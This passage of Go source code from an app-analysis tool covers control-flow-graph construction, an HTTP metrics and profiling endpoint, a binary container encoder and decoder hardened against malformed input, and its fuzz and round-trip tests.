	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func lbl(i int) string { return "L" + string(rune('a'+i%26)) + string(rune('a'+(i/26)%26)) }

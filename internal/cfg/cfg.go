// Package cfg builds intra-procedural control flow graphs over ir.Method
// bodies and derives the graph facts the rest of the pipeline needs:
// reverse post-order (the topological visiting order used by the
// flow-sensitive signature builder), dominators, and natural loops (whose
// headers and latches mark where signatures must widen to repetition).
package cfg

import (
	"fmt"
	"sort"

	"extractocol/internal/ir"
)

// Block is a maximal straight-line sequence of instructions. Start and End
// are instruction indices into the method body; End is exclusive.
type Block struct {
	ID         int
	Start, End int
	Succs      []int // successor block IDs
	Preds      []int // predecessor block IDs
}

// Graph is the control flow graph of one method.
type Graph struct {
	Method *ir.Method
	Blocks []*Block
	// blockOf maps each instruction index to its containing block ID.
	blockOf []int
}

// Build constructs the CFG for m. Methods with empty bodies (library stubs)
// yield a graph with no blocks.
func Build(m *ir.Method) *Graph {
	g := &Graph{Method: m}
	n := len(m.Instrs)
	if n == 0 {
		return g
	}

	leader := make([]bool, n)
	leader[0] = true
	for i := range m.Instrs {
		in := &m.Instrs[i]
		if in.IsBranch() {
			leader[in.Target] = true
			if i+1 < n {
				leader[i+1] = true
			}
		}
		if in.Op == ir.OpReturn && i+1 < n {
			leader[i+1] = true
		}
	}

	g.blockOf = make([]int, n)
	for i := 0; i < n; {
		b := &Block{ID: len(g.Blocks), Start: i}
		i++
		for i < n && !leader[i] {
			i++
		}
		b.End = i
		for j := b.Start; j < b.End; j++ {
			g.blockOf[j] = b.ID
		}
		g.Blocks = append(g.Blocks, b)
	}

	addEdge := func(from, to int) {
		fb, tb := g.Blocks[from], g.Blocks[to]
		for _, s := range fb.Succs {
			if s == tb.ID {
				return
			}
		}
		fb.Succs = append(fb.Succs, tb.ID)
		tb.Preds = append(tb.Preds, fb.ID)
	}
	for _, b := range g.Blocks {
		last := &m.Instrs[b.End-1]
		switch {
		case last.Op == ir.OpGoto:
			addEdge(b.ID, g.blockOf[last.Target])
		case last.IsConditional():
			addEdge(b.ID, g.blockOf[last.Target])
			if b.End < n {
				addEdge(b.ID, g.blockOf[b.End])
			}
		case last.Op == ir.OpReturn:
			// no successors
		default:
			if b.End < n {
				addEdge(b.ID, g.blockOf[b.End])
			}
		}
	}
	return g
}

// BlockOf returns the block containing the instruction at index i.
func (g *Graph) BlockOf(i int) *Block { return g.Blocks[g.blockOf[i]] }

// Entry returns the entry block, or nil for empty methods.
func (g *Graph) Entry() *Block {
	if len(g.Blocks) == 0 {
		return nil
	}
	return g.Blocks[0]
}

// ReversePostOrder returns block IDs in reverse post-order of a depth-first
// search from the entry: every block appears before its successors except
// along back edges. Unreachable blocks are appended at the end in ID order
// so callers still visit every instruction.
func (g *Graph) ReversePostOrder() []int {
	if len(g.Blocks) == 0 {
		return nil
	}
	seen := make([]bool, len(g.Blocks))
	var post []int
	var dfs func(int)
	dfs = func(b int) {
		seen[b] = true
		for _, s := range g.Blocks[b].Succs {
			if !seen[s] {
				dfs(s)
			}
		}
		post = append(post, b)
	}
	dfs(0)
	out := make([]int, 0, len(g.Blocks))
	for i := len(post) - 1; i >= 0; i-- {
		out = append(out, post[i])
	}
	for i := range g.Blocks {
		if !seen[i] {
			out = append(out, i)
		}
	}
	return out
}

// Dominators returns idom, where idom[b] is the immediate dominator of
// block b (idom[entry] == entry). Unreachable blocks get idom -1.
// This is the classic Cooper–Harvey–Kennedy iterative algorithm.
func (g *Graph) Dominators() []int {
	n := len(g.Blocks)
	idom := make([]int, n)
	for i := range idom {
		idom[i] = -1
	}
	if n == 0 {
		return idom
	}
	rpo := g.ReversePostOrder()
	order := make([]int, n) // block ID -> RPO index
	for i, b := range rpo {
		order[b] = i
	}
	idom[0] = 0
	intersect := func(a, b int) int {
		for a != b {
			for order[a] > order[b] {
				a = idom[a]
			}
			for order[b] > order[a] {
				b = idom[b]
			}
		}
		return a
	}
	for changed := true; changed; {
		changed = false
		for _, b := range rpo {
			if b == 0 {
				continue
			}
			newIdom := -1
			for _, p := range g.Blocks[b].Preds {
				if idom[p] == -1 {
					continue
				}
				if newIdom == -1 {
					newIdom = p
				} else {
					newIdom = intersect(newIdom, p)
				}
			}
			if newIdom != -1 && idom[b] != newIdom {
				idom[b] = newIdom
				changed = true
			}
		}
	}
	return idom
}

// Dominates reports whether block a dominates block b under idom.
func Dominates(idom []int, a, b int) bool {
	if idom[b] == -1 {
		return false
	}
	for {
		if a == b {
			return true
		}
		if b == idom[b] { // reached entry
			return a == b
		}
		b = idom[b]
	}
}

// Loop is a natural loop: a back edge Latch→Header plus the loop body.
type Loop struct {
	Header int
	Latch  int
	Body   map[int]bool // block IDs, including header and latch
}

// Loops finds all natural loops via back-edge detection (an edge b→h where
// h dominates b). Loops sharing a header are reported separately.
func (g *Graph) Loops() []Loop {
	idom := g.Dominators()
	var loops []Loop
	for _, b := range g.Blocks {
		for _, s := range b.Succs {
			if Dominates(idom, s, b.ID) {
				loops = append(loops, g.naturalLoop(s, b.ID))
			}
		}
	}
	sort.Slice(loops, func(i, j int) bool {
		if loops[i].Header != loops[j].Header {
			return loops[i].Header < loops[j].Header
		}
		return loops[i].Latch < loops[j].Latch
	})
	return loops
}

func (g *Graph) naturalLoop(header, latch int) Loop {
	body := map[int]bool{header: true, latch: true}
	stack := []int{latch}
	for len(stack) > 0 {
		b := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if b == header {
			continue
		}
		for _, p := range g.Blocks[b].Preds {
			if !body[p] {
				body[p] = true
				stack = append(stack, p)
			}
		}
	}
	return Loop{Header: header, Latch: latch, Body: body}
}

// LoopBlocks returns the set of block IDs that are loop headers or latches.
// The signature builder widens string accumulation at these confluence
// points into rep{...} terms (§3.2).
func (g *Graph) LoopBlocks() map[int]bool {
	out := map[int]bool{}
	for _, l := range g.Loops() {
		out[l.Header] = true
		out[l.Latch] = true
	}
	return out
}

// String renders the graph compactly for debugging.
func (g *Graph) String() string {
	s := ""
	for _, b := range g.Blocks {
		s += fmt.Sprintf("B%d [%d,%d) -> %v\n", b.ID, b.Start, b.End, b.Succs)
	}
	return s
}

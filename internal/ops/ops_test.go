package ops

import (
	"encoding/json"
	"io"
	"net/http"
	"runtime"
	"strings"
	"testing"
	"time"

	"extractocol/internal/obs"
)

func get(t *testing.T, url string) (int, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s body: %v", url, err)
	}
	return resp.StatusCode, string(body)
}

func TestServeEndpoints(t *testing.T) {
	reg := obs.NewRegistry()
	c := obs.NewCollector()
	reg.Attach(c)
	done := c.Phase(obs.PhaseSlice)
	done()
	c.Add(obs.CtrCacheReportHits, 1)

	s, err := Serve("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if !strings.Contains(s.URL(), "http://127.0.0.1:") {
		t.Fatalf("URL = %q", s.URL())
	}

	code, body := get(t, s.URL()+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics status = %d", code)
	}
	for _, want := range []string{
		"extractocol_runs_live 1",
		"extractocol_cache_report_hits_total 1",
		`extractocol_phase_latency_seconds_bucket{phase="slice"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q\n%s", want, body)
		}
	}

	code, body = get(t, s.URL()+"/healthz")
	if code != http.StatusOK {
		t.Fatalf("/healthz status = %d", code)
	}
	var h struct {
		Status   string `json:"status"`
		RunsLive int64  `json:"runs_live"`
	}
	if err := json.Unmarshal([]byte(body), &h); err != nil {
		t.Fatalf("/healthz not JSON: %v (%s)", err, body)
	}
	if h.Status != "ok" || h.RunsLive != 1 {
		t.Fatalf("/healthz = %+v", h)
	}

	code, body = get(t, s.URL()+"/debug/pprof/cmdline")
	if code != http.StatusOK || body == "" {
		t.Fatalf("/debug/pprof/cmdline status = %d", code)
	}
}

// TestServeShutdownNoLeak pins the goroutine hygiene of the listener: after
// Close, the serve goroutine and every connection goroutine must exit.
func TestServeShutdownNoLeak(t *testing.T) {
	before := runtime.NumGoroutine()
	for i := 0; i < 3; i++ {
		s, err := Serve("127.0.0.1:0", obs.NewRegistry())
		if err != nil {
			t.Fatal(err)
		}
		if code, _ := get(t, s.URL()+"/healthz"); code != http.StatusOK {
			t.Fatalf("round %d: healthz = %d", i, code)
		}
		if err := s.Close(); err != nil {
			t.Fatalf("round %d: close: %v", i, err)
		}
	}
	// Idle HTTP client keep-alive goroutines settle asynchronously; poll
	// with a deadline instead of asserting instantly.
	http.DefaultClient.CloseIdleConnections()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= before {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines leaked: %d before, %d after shutdown", before, runtime.NumGoroutine())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestServeNilSafety(t *testing.T) {
	var s *Server
	if s.URL() != "" || s.Close() != nil {
		t.Fatal("nil server should be inert")
	}
	if _, err := Serve("256.256.256.256:1", obs.NewRegistry()); err == nil {
		t.Fatal("bad address should error")
	}
}

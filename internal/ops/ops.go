// Package ops is the operational HTTP endpoint of the telemetry plane: a
// small listener mounted by the CLI commands (and, per ROADMAP, the future
// extractocold daemon) that exposes the process's obs.Registry as
// Prometheus text on /metrics, a liveness probe on /healthz, and the
// standard net/http/pprof profiling handlers — everything a fleet
// operator needs to watch a long corpus run from the outside.
//
// The server idiom mirrors internal/httpsim: bind an explicit listener
// (so ":0" reports the kernel-chosen port), serve on a goroutine, and shut
// down gracefully with a bounded drain.
package ops

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"time"

	"extractocol/internal/obs"
)

// Server is a running ops endpoint.
type Server struct {
	// Addr is the bound address, e.g. "127.0.0.1:43210" — useful when the
	// caller asked for port 0.
	Addr string

	srv *http.Server
	ln  net.Listener
}

// health is the /healthz payload. Field order is fixed by the struct so
// probes can assert on the serialized form.
type health struct {
	Status    string `json:"status"`
	UptimeSec int64  `json:"uptime_sec"`
	RunsLive  int64  `json:"runs_live"`
}

// Handler returns the ops endpoint's routing table for the given registry,
// usable standalone (tests, or mounting under a larger server).
func Handler(reg *obs.Registry) http.Handler {
	start := time.Now()
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		fmt.Fprint(w, reg.Prometheus())
	})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		_, _, _, live := reg.Gather()
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(health{
			Status:    "ok",
			UptimeSec: int64(time.Since(start).Seconds()),
			RunsLive:  live,
		})
	})
	// net/http/pprof registers on http.DefaultServeMux as an import side
	// effect; mount the handlers explicitly so this mux stays self-contained.
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// Serve binds addr (":0" picks a free port) and serves the ops endpoint
// for reg until Close.
func Serve(addr string, reg *obs.Registry) (*Server, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("ops: listen %s: %w", addr, err)
	}
	srv := &http.Server{
		Handler:           Handler(reg),
		ReadHeaderTimeout: 5 * time.Second,
		ReadTimeout:       30 * time.Second,
		WriteTimeout:      60 * time.Second, // pprof profiles stream for 30s
		IdleTimeout:       60 * time.Second,
	}
	s := &Server{Addr: ln.Addr().String(), srv: srv, ln: ln}
	go func() {
		// Serve returns ErrServerClosed after Shutdown; anything else means
		// the listener died, which Close surfaces via the server state.
		_ = srv.Serve(ln)
	}()
	return s, nil
}

// URL returns the endpoint's base URL.
func (s *Server) URL() string {
	if s == nil {
		return ""
	}
	return "http://" + s.Addr
}

// Close drains in-flight requests (bounded) and releases the listener. A
// nil server is a no-op so callers can close unconditionally.
func (s *Server) Close() error {
	if s == nil {
		return nil
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	return s.srv.Shutdown(ctx)
}

// Package dex serializes ir.Program values into the .apkb binary container
// and parses them back. The container is the analog of an Android APK/DEX
// file: it is the *only* input the analyzer consumes, keeping Extractocol's
// "application binary as sole input" property. The format uses a shared
// string pool (like DEX), little-endian fixed-width section headers, and a
// CRC32 checksum over the payload.
//
// Layout:
//
//	magic "APKB" | u16 version | u32 crc32(payload) | payload
//
// The payload is: string pool, manifest, resources, classes. All strings
// are pool indices; all integers are varint-encoded except the header.
package dex

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"sort"

	"extractocol/internal/budget"
	"extractocol/internal/ir"
)

// Magic identifies .apkb containers.
var Magic = [4]byte{'A', 'P', 'K', 'B'}

// Version is the current container format version.
const Version uint16 = 2

// Errors returned by Decode.
var (
	ErrBadMagic    = errors.New("dex: bad magic (not an .apkb container)")
	ErrBadVersion  = errors.New("dex: unsupported container version")
	ErrBadChecksum = errors.New("dex: payload checksum mismatch")
)

// Encode serializes p into the .apkb container format.
func Encode(p *ir.Program) ([]byte, error) {
	var pool stringPool
	var body bytes.Buffer
	w := &writer{w: &body, pool: &pool}

	// Manifest.
	w.str(p.Manifest.Package)
	w.str(p.Manifest.AppName)
	w.bool(p.Manifest.Obfuscated)
	w.uvarint(uint64(len(p.Manifest.EntryPoints)))
	for _, ep := range p.Manifest.EntryPoints {
		w.str(ep.Method)
		w.uvarint(uint64(ep.Kind))
		w.str(ep.Label)
	}

	// Resources, sorted for determinism.
	keys := make([]string, 0, len(p.Resources))
	for k := range p.Resources {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	w.uvarint(uint64(len(keys)))
	for _, k := range keys {
		w.str(k)
		w.str(p.Resources[k])
	}

	// Classes.
	classes := p.Classes()
	w.uvarint(uint64(len(classes)))
	for _, c := range classes {
		encodeClass(w, c)
	}
	if w.err != nil {
		return nil, w.err
	}

	// Assemble: header, pool, body.
	var out bytes.Buffer
	out.Write(Magic[:])
	var verBuf [2]byte
	binary.LittleEndian.PutUint16(verBuf[:], Version)
	out.Write(verBuf[:])

	var payload bytes.Buffer
	pw := &writer{w: &payload}
	pw.uvarint(uint64(len(pool.strs)))
	for _, s := range pool.strs {
		pw.rawstr(s)
	}
	if pw.err != nil {
		return nil, pw.err
	}
	payload.Write(body.Bytes())

	var crcBuf [4]byte
	binary.LittleEndian.PutUint32(crcBuf[:], crc32.ChecksumIEEE(payload.Bytes()))
	out.Write(crcBuf[:])
	out.Write(payload.Bytes())
	return out.Bytes(), nil
}

func encodeClass(w *writer, c *ir.Class) {
	w.str(c.Name)
	w.str(c.Super)
	w.bool(c.Library)
	w.uvarint(uint64(len(c.Interfaces)))
	for _, i := range c.Interfaces {
		w.str(i)
	}
	w.uvarint(uint64(len(c.Fields)))
	for _, f := range c.Fields {
		w.str(f.Name)
		w.str(f.Type)
		w.bool(f.Static)
	}
	w.uvarint(uint64(len(c.Methods)))
	for _, m := range c.Methods {
		encodeMethod(w, m)
	}
}

func encodeMethod(w *writer, m *ir.Method) {
	w.str(m.Name)
	w.str(m.Return)
	w.bool(m.Static)
	w.uvarint(uint64(len(m.Params)))
	for _, p := range m.Params {
		w.str(p)
	}
	w.uvarint(uint64(m.Registers))
	w.uvarint(uint64(len(m.Instrs)))
	for i := range m.Instrs {
		encodeInstr(w, &m.Instrs[i])
	}
}

func encodeInstr(w *writer, in *ir.Instr) {
	w.uvarint(uint64(in.Op))
	w.reg(in.Dst)
	w.reg(in.A)
	w.reg(in.B)
	w.uvarint(uint64(len(in.Args)))
	for _, a := range in.Args {
		w.reg(a)
	}
	w.str(in.Sym)
	w.str(in.Str)
	w.varint(in.Int)
	w.varint(int64(in.Target))
	w.uvarint(uint64(in.Kind))
}

// Decode parses an .apkb container produced by Encode. The returned program
// is validated structurally. A panic inside the decoder — which would mean
// hostile bytes found a hole in the bounds checks — is recovered and
// returned as an error, so one malformed container can never take down a
// corpus run.
func Decode(data []byte) (*ir.Program, error) {
	return DecodeFaults(data, nil)
}

// DecodeFaults is Decode with a fault-injection hook for the robustness
// test layer: inj, when non-nil, is probed at the decode phase and may
// force a panic that must surface as an error, exercising the recovery
// path with real hostile-input control flow.
func DecodeFaults(data []byte, inj *budget.FaultInjector) (p *ir.Program, err error) {
	defer func() {
		if r := recover(); r != nil {
			p, err = nil, fmt.Errorf("dex: decoder panic on malformed input: %v", r)
		}
	}()
	inj.MaybePanic(budget.PhaseDecode, "container")
	return decode(data)
}

func decode(data []byte) (*ir.Program, error) {
	if len(data) < 10 {
		return nil, ErrBadMagic
	}
	if !bytes.Equal(data[:4], Magic[:]) {
		return nil, ErrBadMagic
	}
	if v := binary.LittleEndian.Uint16(data[4:6]); v != Version {
		return nil, fmt.Errorf("%w: %d (want %d)", ErrBadVersion, v, Version)
	}
	wantCRC := binary.LittleEndian.Uint32(data[6:10])
	payload := data[10:]
	if crc32.ChecksumIEEE(payload) != wantCRC {
		return nil, ErrBadChecksum
	}

	r := &reader{data: payload}
	n := r.count()
	pool := make([]string, 0, n)
	for i := uint64(0); i < n; i++ {
		pool = append(pool, r.rawstr())
	}
	r.pool = pool

	p := ir.NewProgram("")
	p.Manifest.Package = r.str()
	p.Manifest.AppName = r.str()
	p.Manifest.Obfuscated = r.bool()
	eps := r.count()
	for i := uint64(0); i < eps; i++ {
		ep := ir.EntryPoint{Method: r.str(), Kind: ir.EventKind(r.uvarint()), Label: r.str()}
		p.Manifest.EntryPoints = append(p.Manifest.EntryPoints, ep)
	}
	res := r.count()
	for i := uint64(0); i < res; i++ {
		k := r.str()
		p.Resources[k] = r.str()
	}
	nc := r.count()
	for i := uint64(0); i < nc; i++ {
		p.AddClass(decodeClass(r))
	}
	if r.err != nil {
		return nil, fmt.Errorf("dex: truncated container: %w", r.err)
	}
	if err := p.Validate(); err != nil {
		return nil, fmt.Errorf("dex: invalid program: %w", err)
	}
	return p, nil
}

func decodeClass(r *reader) *ir.Class {
	c := &ir.Class{Name: r.str(), Super: r.str(), Library: r.bool()}
	ni := r.count()
	for i := uint64(0); i < ni; i++ {
		c.Interfaces = append(c.Interfaces, r.str())
	}
	nf := r.count()
	for i := uint64(0); i < nf; i++ {
		c.Fields = append(c.Fields, &ir.Field{Name: r.str(), Type: r.str(), Static: r.bool()})
	}
	nm := r.count()
	for i := uint64(0); i < nm; i++ {
		c.AddMethod(decodeMethod(r))
	}
	return c
}

func decodeMethod(r *reader) *ir.Method {
	m := &ir.Method{Name: r.str(), Return: r.str(), Static: r.bool()}
	np := r.count()
	for i := uint64(0); i < np; i++ {
		m.Params = append(m.Params, r.str())
	}
	m.Registers = int(r.uvarint())
	ni := r.count()
	m.Instrs = make([]ir.Instr, 0, ni)
	for i := uint64(0); i < ni; i++ {
		m.Instrs = append(m.Instrs, decodeInstr(r))
	}
	return m
}

func decodeInstr(r *reader) ir.Instr {
	var in ir.Instr
	in.Op = ir.Op(r.uvarint())
	in.Dst = r.reg()
	in.A = r.reg()
	in.B = r.reg()
	na := r.count()
	for i := uint64(0); i < na; i++ {
		in.Args = append(in.Args, r.reg())
	}
	in.Sym = r.str()
	in.Str = r.str()
	in.Int = r.varint()
	in.Target = int(r.varint())
	in.Kind = ir.InvokeKind(r.uvarint())
	return in
}

// WriteFile encodes p and writes it to path.
func WriteFile(path string, p *ir.Program) error {
	data, err := Encode(p)
	if err != nil {
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

// ReadFile reads and decodes the container at path.
func ReadFile(path string) (*ir.Program, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return Decode(data)
}

// ---- low-level encoding helpers ----

type stringPool struct {
	strs  []string
	index map[string]uint64
}

func (p *stringPool) id(s string) uint64 {
	if p.index == nil {
		p.index = map[string]uint64{}
	}
	if id, ok := p.index[s]; ok {
		return id
	}
	id := uint64(len(p.strs))
	p.strs = append(p.strs, s)
	p.index[s] = id
	return id
}

type writer struct {
	w    io.Writer
	pool *stringPool
	err  error
	buf  [binary.MaxVarintLen64]byte
}

func (w *writer) write(b []byte) {
	if w.err != nil {
		return
	}
	_, w.err = w.w.Write(b)
}

func (w *writer) uvarint(v uint64) {
	n := binary.PutUvarint(w.buf[:], v)
	w.write(w.buf[:n])
}

func (w *writer) varint(v int64) {
	n := binary.PutVarint(w.buf[:], v)
	w.write(w.buf[:n])
}

func (w *writer) bool(b bool) {
	if b {
		w.uvarint(1)
	} else {
		w.uvarint(0)
	}
}

// reg encodes a register index, mapping ir.NoReg to 0.
func (w *writer) reg(r int) {
	w.varint(int64(r))
}

// str interns s in the pool and writes its index.
func (w *writer) str(s string) { w.uvarint(w.pool.id(s)) }

// rawstr writes a length-prefixed string (pool entries only).
func (w *writer) rawstr(s string) {
	w.uvarint(uint64(len(s)))
	w.write([]byte(s))
}

type reader struct {
	data []byte
	off  int
	pool []string
	err  error
}

func (r *reader) fail(err error) {
	if r.err == nil {
		r.err = err
	}
}

func (r *reader) uvarint() uint64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Uvarint(r.data[r.off:])
	if n <= 0 {
		r.fail(io.ErrUnexpectedEOF)
		return 0
	}
	r.off += n
	return v
}

func (r *reader) varint() int64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Varint(r.data[r.off:])
	if n <= 0 {
		r.fail(io.ErrUnexpectedEOF)
		return 0
	}
	r.off += n
	return v
}

func (r *reader) bool() bool { return r.uvarint() != 0 }

// count reads an element count and rejects values that cannot possibly fit
// in the remaining payload: every encoded element costs at least one byte,
// so a count larger than the bytes left is corrupt. This bounds both
// preallocation sizes and loop trip counts against hostile containers.
func (r *reader) count() uint64 {
	n := r.uvarint()
	if r.err != nil {
		return 0
	}
	if n > uint64(len(r.data)-r.off) {
		r.fail(fmt.Errorf("count %d exceeds %d remaining payload bytes", n, len(r.data)-r.off))
		return 0
	}
	return n
}

func (r *reader) reg() int { return int(r.varint()) }

func (r *reader) str() string {
	id := r.uvarint()
	if r.err != nil {
		return ""
	}
	if id >= uint64(len(r.pool)) {
		r.fail(fmt.Errorf("string pool index %d out of range", id))
		return ""
	}
	return r.pool[id]
}

func (r *reader) rawstr() string {
	n := r.uvarint()
	if r.err != nil {
		return ""
	}
	if r.off+int(n) > len(r.data) {
		r.fail(io.ErrUnexpectedEOF)
		return ""
	}
	s := string(r.data[r.off : r.off+int(n)])
	r.off += int(n)
	return s
}

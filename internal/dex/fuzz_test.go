package dex

import (
	"encoding/binary"
	"hash/crc32"
	"testing"
)

// FuzzDexDecode throws mutated .apkb containers at Decode. Corrupt input
// must surface as an error, never a panic or a runaway allocation: the
// decoder bounds every element count against the remaining payload (see
// reader.count) precisely so that hostile containers cannot make it
// preallocate gigabytes or spin on phantom elements.
//
// Most random mutations die at the CRC check without touching the decoder
// body, so the target also re-seals the mutated payload with a fresh
// checksum and decodes that; this drives the fuzzer into the string pool,
// class, method and instruction parsers.
func FuzzDexDecode(f *testing.F) {
	valid, err := Encode(sampleProgram())
	if err != nil {
		f.Fatal(err)
	}
	f.Add(valid)
	f.Add(valid[:len(valid)/2])
	f.Add(valid[:10]) // header only, empty payload
	f.Add([]byte{})
	f.Add([]byte("APKB"))
	corrupt := append([]byte(nil), valid...)
	corrupt[len(corrupt)-3] ^= 0xFF
	f.Add(corrupt)

	f.Fuzz(func(t *testing.T, data []byte) {
		if p, err := Decode(data); err == nil {
			// Whatever the decoder accepts must re-encode cleanly.
			if _, err := Encode(p); err != nil {
				t.Fatalf("decoded program fails to re-encode: %v", err)
			}
		}

		// Re-seal: keep the mutated payload but make the header honest,
		// so the mutation reaches the section parsers.
		if len(data) < 10 {
			return
		}
		sealed := append([]byte(nil), data...)
		copy(sealed[:4], Magic[:])
		binary.LittleEndian.PutUint16(sealed[4:6], Version)
		binary.LittleEndian.PutUint32(sealed[6:10], crc32.ChecksumIEEE(sealed[10:]))
		if p, err := Decode(sealed); err == nil {
			if _, err := Encode(p); err != nil {
				t.Fatalf("decoded program fails to re-encode: %v", err)
			}
		}
	})
}

package dex

import (
	"bytes"
	"path/filepath"
	"reflect"
	"testing"
	"testing/quick"

	"extractocol/internal/ir"
)

func sampleProgram() *ir.Program {
	p := ir.NewProgram("com.example.app")
	p.Manifest.AppName = "Example"
	p.Resources["api_key"] = "SECRET-123"
	p.Resources["base_url"] = "https://api.example.com"

	c := p.AddClass(&ir.Class{
		Name:       "com.example.app.Main",
		Super:      "android.app.Activity",
		Interfaces: []string{"java.lang.Runnable"},
		Fields: []*ir.Field{
			{Name: "token", Type: "java.lang.String"},
			{Name: "count", Type: "int", Static: true},
		},
	})
	b := ir.NewMethod(c, "onCreate", false, nil, "void")
	url := b.ConstStr("https://api.example.com/v1/items.json")
	req := b.New("org.apache.http.client.methods.HttpGet")
	b.InvokeSpecial("org.apache.http.client.methods.HttpGet.<init>", req, url)
	cl := b.New("org.apache.http.impl.client.DefaultHttpClient")
	b.InvokeSpecial("org.apache.http.impl.client.DefaultHttpClient.<init>", cl)
	resp := b.Invoke("org.apache.http.client.HttpClient.execute", cl, req)
	n := b.ConstInt(-42)
	b.FieldPut(b.This(), "token", n)
	_ = resp
	b.ReturnVoid()
	b.Done()

	p.Manifest.EntryPoints = []ir.EntryPoint{
		{Method: "com.example.app.Main.onCreate", Kind: ir.EventCreate, Label: "launch"},
	}
	return p
}

func TestRoundTrip(t *testing.T) {
	p := sampleProgram()
	data, err := Encode(p)
	if err != nil {
		t.Fatalf("Encode: %v", err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	assertProgramsEqual(t, p, got)
}

func assertProgramsEqual(t *testing.T, want, got *ir.Program) {
	t.Helper()
	if !reflect.DeepEqual(want.Manifest, got.Manifest) {
		t.Fatalf("manifest mismatch:\nwant %+v\ngot  %+v", want.Manifest, got.Manifest)
	}
	if !reflect.DeepEqual(want.Resources, got.Resources) {
		t.Fatalf("resources mismatch: %v vs %v", want.Resources, got.Resources)
	}
	wc, gc := want.Classes(), got.Classes()
	if len(wc) != len(gc) {
		t.Fatalf("class count %d vs %d", len(wc), len(gc))
	}
	for i := range wc {
		if wc[i].Name != gc[i].Name || wc[i].Super != gc[i].Super || wc[i].Library != gc[i].Library {
			t.Fatalf("class %d header mismatch", i)
		}
		if !reflect.DeepEqual(wc[i].Interfaces, gc[i].Interfaces) {
			t.Fatalf("class %s interfaces mismatch", wc[i].Name)
		}
		if !reflect.DeepEqual(wc[i].Fields, gc[i].Fields) {
			t.Fatalf("class %s fields mismatch", wc[i].Name)
		}
		if len(wc[i].Methods) != len(gc[i].Methods) {
			t.Fatalf("class %s method count mismatch", wc[i].Name)
		}
		for j := range wc[i].Methods {
			wm, gm := wc[i].Methods[j], gc[i].Methods[j]
			if wm.Name != gm.Name || wm.Return != gm.Return || wm.Static != gm.Static ||
				wm.Registers != gm.Registers {
				t.Fatalf("method %s.%s header mismatch", wc[i].Name, wm.Name)
			}
			if !reflect.DeepEqual(wm.Params, gm.Params) {
				t.Fatalf("method %s params mismatch", wm.Name)
			}
			if !reflect.DeepEqual(wm.Instrs, gm.Instrs) {
				t.Fatalf("method %s instrs mismatch:\nwant %v\ngot  %v", wm.Name, wm.Instrs, gm.Instrs)
			}
		}
	}
}

func TestEncodeIsDeterministic(t *testing.T) {
	a, err := Encode(sampleProgram())
	if err != nil {
		t.Fatal(err)
	}
	b, err := Encode(sampleProgram())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, b) {
		t.Fatal("two encodings of the same program differ")
	}
}

func TestDecodeRejectsBadMagic(t *testing.T) {
	data, _ := Encode(sampleProgram())
	data[0] = 'X'
	if _, err := Decode(data); err == nil {
		t.Fatal("accepted bad magic")
	}
}

func TestDecodeRejectsBadVersion(t *testing.T) {
	data, _ := Encode(sampleProgram())
	data[4] = 0xFF
	if _, err := Decode(data); err == nil {
		t.Fatal("accepted bad version")
	}
}

func TestDecodeRejectsCorruptPayload(t *testing.T) {
	data, _ := Encode(sampleProgram())
	data[len(data)-1] ^= 0x55
	if _, err := Decode(data); err == nil {
		t.Fatal("accepted corrupted payload (checksum should fail)")
	}
}

func TestDecodeRejectsTruncated(t *testing.T) {
	data, _ := Encode(sampleProgram())
	for _, n := range []int{0, 3, 9} {
		if _, err := Decode(data[:n]); err == nil {
			t.Fatalf("accepted %d-byte truncation", n)
		}
	}
}

func TestReadWriteFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "app.apkb")
	p := sampleProgram()
	if err := WriteFile(path, p); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	assertProgramsEqual(t, p, got)
}

// Property: any syntactically valid single-method program round-trips.
func TestRoundTripProperty(t *testing.T) {
	f := func(pkg string, res map[string]string, strs []string, ints []int64) bool {
		p := ir.NewProgram("p." + sanitize(pkg))
		if res != nil {
			for k, v := range res {
				p.Resources[k] = v
			}
		}
		c := p.AddClass(&ir.Class{Name: "p.C"})
		b := ir.NewMethod(c, "m", true, nil, "void")
		for _, s := range strs {
			b.ConstStr(s)
		}
		for _, v := range ints {
			b.ConstInt(v)
		}
		b.ReturnVoid()
		b.Done()

		data, err := Encode(p)
		if err != nil {
			return false
		}
		got, err := Decode(data)
